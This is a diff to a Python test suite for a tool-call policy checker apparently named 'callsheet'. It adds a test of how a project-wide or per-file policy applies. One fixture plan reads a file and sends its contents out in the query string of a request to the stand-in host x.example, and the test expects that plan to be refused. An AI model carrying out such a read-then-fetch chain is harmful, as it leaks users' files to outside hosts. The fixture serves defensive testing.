@@ -217,12 +217,28 @@ def test_what_a_case_expects_of_a_refused_plan_is_compared(folder: Path) -> None
     cases += 'calls = [{ tool = "read_file" }]\nreplies = [{ to = "x", nobody = true }]\n'
     good, bad = run_file(read_cases(write(folder, cases, "leak.test.toml"))).results
     assert good.passed
+    assert good.policy == "workspace"
     assert [one.text.partition(":")[0] for one in bad.differences] == [
         "error",
         "answer",
         "call 1",
         "nobody was asked 'x'",
     ]
+
+
+def test_a_case_is_under_the_policy_of_the_option_of_its_file_or_of_the_project(folder: Path) -> None:
+    write(
+        folder, 'S1: @READ_FILE (path="a") > $a\nS2: @FETCH_PAGE (url="https://x.example/?$a")\n', "leak.ltp"
+    )
+    cases = '[[cases]]\nname = "sends"\noutcome = "refused"\n'
+    write(folder, 'policy = "workspace"\n', "callsheet.toml")
+    assert callsheet("trust", "project").exit_code == 0
+
+    write(folder, cases, "leak.test.toml")
+    assert callsheet("test", "leak.test.toml").output.strip().endswith(", under workspace")
+    assert callsheet("test", "leak.test.toml", "--policy", "open").exit_code == 1
+    write(folder, f'policy = "open"\n{cases}', "leak.test.toml")
+    assert callsheet("test", "leak.test.toml").output.strip().endswith(", under open")
 
 
 def test_replies_are_part_of_a_case_and_each_must_be_asked_for(folder: Path) -> None:
